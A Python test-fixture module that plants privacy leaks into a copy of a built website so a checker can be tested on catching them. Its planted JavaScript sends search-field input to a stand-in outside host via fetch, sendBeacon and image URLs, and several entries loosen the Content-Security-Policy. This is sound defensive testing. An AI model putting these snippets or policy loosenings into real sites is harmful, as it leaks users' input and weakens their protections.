"""Leaks to plant in a copy of the built site, each with what the check must say of it."""

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from decider.languages import LANGUAGES
from decider.site.build.policy import POLICY
from probes import ELSEWHERE
from safe import Leak


@dataclass(frozen=True)
class Plant:
    """A change of every built file of a name, and what must be reported: the kind of leak, and words of it."""

    file: str
    change: Callable[[str], str]
    leak: Leak
    told: str


def copied(site: Path, place: Path) -> Path:
    """A copy of what the short walk of a site comes to."""

    def apart(folder: str, names: list[str]) -> set[str]:
        inside = {"assets", "v7"} & {*Path(folder).relative_to(site).parts}
        return set() if inside else {*names} - {*LANGUAGES, "assets", "cas", "v7", "index.html"}

    return Path(shutil.copytree(site, place, ignore=apart))


def sow(site: Path, plant: Plant) -> None:
    """Change each file of that name, with or without a hash in it, in both languages."""
    stem, _, kind = plant.file.rpartition(".")
    found = [*site.rglob(plant.file), *site.rglob(f"{stem}.*.{kind}")]
    assert found, f"no {plant.file} in the built site"
    for path in found:
        before = path.read_text("utf-8")
        after = plant.change(before)
        assert after != before, f"{path} was not changed"
        path.write_text(after, "utf-8")


def typing(does: str, leak: Leak, told: str) -> Plant:
    """A script that does something with what is typed into a search field."""
    return _heard(
        "input", "[type=search]", f"const typed = encodeURIComponent(e.target.value); {does}", leak, told
    )


def ticking(does: str, leak: Leak, told: str) -> Plant:
    """A script that does something when a condition is ticked."""
    return _heard("click", ".tick button", does, leak, told)


def _heard(event: str, where: str, does: str, leak: Leak, told: str) -> Plant:
    script = f'addEventListener("{event}", e => {{ if (e.target.matches("{where}")) {{ {does} }} }});'
    return Plant("answer.js", lambda text: f"{text}\n{script}\n", leak, told)


def page(old: str, new: str, leak: Leak, told: str) -> Plant:
    return Plant("cas/v7/index.html", lambda text: text.replace(old, new), leak, told)


def style(text: str, leak: Leak, told: str) -> Plant:
    return Plant("style.css", lambda before: f"{text}\n{before}", leak, told)


def loosened(old: str, new: str) -> Callable[[str], str]:
    """Loosen the policy of a page."""
    assert old in POLICY, old
    return lambda text: text.replace(POLICY, POLICY.replace(old, new))


def let(old: str, new: str, told: str) -> Plant:
    return Plant("cas/v7/index.html", loosened(old, new), Leak.LET, f"{told} at ")


LOOSE = [
    let("script-src 'self'", "script-src 'self' 'unsafe-inline'", "inline script"),
    let("script-src 'self'", "script-src 'self' 'unsafe-eval'", "eval"),
    let("script-src 'self'", "script-src 'self' https:", "foreign script"),
    let("style-src 'self'", "style-src 'self' 'unsafe-inline'", "inline style"),
    let("style-src 'self'", "style-src 'self' https:", "foreign style"),
    let("img-src 'self'", "img-src *", "foreign image"),
    let("connect-src 'self'", "connect-src *", "fetch elsewhere"),
    let("default-src 'none'; ", "", "frame"),
    let("base-uri 'none'; ", "", "base"),
    let("; form-action 'none'", "", "form"),
    page('content="same-origin"', 'content="unsafe-url"', Leak.LET, "referrer at "),
]
"""Each loosens one thing, and lets one thing through, or what goes with it."""

LEAKS: dict[str, list[Plant]] = {
    "a script in the page that the policy lets run, a style from elsewhere": [
        page("script-src 'self'", "script-src 'self' 'unsafe-inline'", Leak.LET, "inline script"),
        page(
            "</body>", "<script>localStorage.inline = 1</script></body>", Leak.STORED, "localStorage inline"
        ),
        style(f'@import url("{ELSEWHERE}a.css");', Leak.POLICY, f"style-src-elem {ELSEWHERE}a.css"),
    ],
    "what was typed is sent": [
        typing(f"fetch('{ELSEWHERE}fetch').catch(() => 0);", Leak.POLICY, f"connect-src {ELSEWHERE}fetch"),
        typing(
            f"navigator.sendBeacon('{ELSEWHERE}beacon', typed);",
            Leak.POLICY,
            f"connect-src {ELSEWHERE}beacon",
        ),
        typing(f"new Image().src = '{ELSEWHERE}image?' + typed;", Leak.POLICY, f"img-src {ELSEWHERE}image"),
        typing("fetch('/fr/?fetch=' + typed);", Leak.SENT, "GET {}fr/?fetch="),
        typing("fetch('/fr/', { headers: { typed } });", Leak.SENT, "GET {}fr/"),
        typing("navigator.sendBeacon('/fr/', typed);", Leak.SENT, "POST {}fr/"),
        typing("new Image().src = '/fr/assets/mark.svg?' + typed;", Leak.SENT, "GET {}fr/assets/mark.svg?"),
    ],
    "the policy lets a style in, and out what was typed": [
        page("style-src 'self'", "style-src *", Leak.LET, "foreign style"),
        style(f'@import url("{ELSEWHERE}a.css");', Leak.ELSEWHERE, f"{ELSEWHERE}a.css"),
        page("connect-src 'self'", "connect-src *", Leak.LET, "fetch elsewhere"),
        typing(f"fetch('{ELSEWHERE}fetch').catch(() => 0);", Leak.ELSEWHERE, f"{ELSEWHERE}fetch"),
        typing(f"navigator.sendBeacon('{ELSEWHERE}beacon', typed);", Leak.ELSEWHERE, f"{ELSEWHERE}beacon"),
    ],
    "what was ticked is stored": [
        ticking("localStorage.planted = 1;", Leak.STORED, "localStorage planted"),
        ticking("sessionStorage.planted = 1;", Leak.STORED, "sessionStorage planted"),
        ticking("document.cookie = 'planted=1';", Leak.STORED, "cookie planted"),
        ticking("indexedDB.open('planted');", Leak.STORED, "indexedDB planted"),
        ticking("caches.open('planted');", Leak.STORED, "caches planted"),
        ticking("name = 'planted';", Leak.STORED, "window.name planted"),
        ticking("history.replaceState('planted', '');", Leak.STORED, 'history.state "planted"'),
        ticking(
            "navigator.serviceWorker.register(document.querySelector('[src*=answer]').src);",
            Leak.STORED,
            "serviceWorker {}",
        ),
        ticking(
            "navigator.storage.getDirectory().then(all => all.getFileHandle('planted', { create: true }));",
            Leak.STORED,
            "files planted",
        ),
        Plant(
            "answer.js",
            lambda text: f"if (globalThis.document) {{ {text} }}",
            Leak.STORED,
            "serviceWorker {}",
        ),
    ],
    "what was ticked or typed enters an address": [
        ticking("location.hash = 'consent=0';", Leak.ADDRESS, "#consent=0"),
        ticking("history.pushState(null, '', '?informed=1');", Leak.ADDRESS, "?informed=1"),
        typing("history.replaceState(null, '', '?q=' + typed);", Leak.ADDRESS, "{}fr/cas/v7/?q="),
    ],
    "a form, a link or the clipboard": [
        typing(
            "const form = document.createElement('form'), frame = document.createElement('iframe');"
            " form.method = 'post'; form.action = '/fr/'; form.target = frame.name = 'planted';"
            " document.body.append(frame, form); form.submit();",
            Leak.POLICY,
            "form-action {}fr/",
        ),
        typing("navigator.clipboard.readText();", Leak.CLIPBOARD, "readText"),
        typing("document.querySelector('.foot a').search = typed;", Leak.LINK, "?"),
        typing(
            f"const link = document.createElement('a'); link.href = '{ELSEWHERE}?' + typed; document.body.append(link);",
            Leak.LINK,
            f"{ELSEWHERE}?",
        ),
        page('content="same-origin"', 'content="unsafe-url"', Leak.LET, "referrer"),
    ],
}
"""By kind; `{}` stands for the address of the site."""
